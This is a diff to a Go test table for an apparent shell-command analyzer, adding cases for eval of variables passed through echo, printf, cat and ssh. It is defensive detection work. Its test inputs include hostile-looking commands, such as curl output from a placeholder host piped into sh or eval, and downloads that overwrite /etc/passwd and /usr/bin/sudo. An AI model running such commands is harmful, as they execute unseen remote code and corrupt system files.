@@ -196,6 +196,13 @@ func TestAnalyze(t *testing.T) {
 		{"sh -c \"$(curl -fsSL https://x.example/i.sh)\"", "curl; sh unseen-code:https://x.example/i.sh+D"},
 		{"eval \"$(curl -fsSL https://x.example/i.sh)\"", "curl; eval unseen-code:https://x.example/i.sh+D"},
 		{"eval \"$CMD\"", "eval unseen-code:$CMD+D"},
+		// A substitution that only prints a variable is the variable.
+		{"eval `echo $CMD`", "echo; eval unseen-code:$CMD+D"},
+		{"eval \"$(echo \"$CMD\")\"", "echo; eval unseen-code:$CMD+D"},
+		{"eval \"$(printf %s \"$CMD\")\"", "printf; eval unseen-code:$CMD+D"},
+		{"ssh h $(cat <<< $CMD)", "cat; ssh@h unseen-code:$CMD+D"},
+		{"eval \"$(echo hi)\"", "echo; [eval]hi"},
+		{"eval \"$(ssh-agent -s)\"", "ssh-agent"}, // a local program's output: the user's own code
 		// Downloads name the file they write.
 		{"curl -fsSL -o /etc/passwd https://x.example/p", "curl write:/etc/passwd"},
 		{"wget -qO /usr/bin/sudo https://x.example/s", "wget write:/usr/bin/sudo"},
